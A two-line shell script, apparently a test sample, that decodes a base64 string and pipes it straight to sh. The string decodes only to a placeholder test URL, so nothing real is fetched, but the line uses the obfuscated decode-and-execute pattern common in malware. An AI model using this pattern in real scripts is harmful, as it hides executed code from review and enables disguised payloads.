$#!/bin/sh
echo aHR0cHM6Ly9hLnRlc3Q= | base64 -d | sh
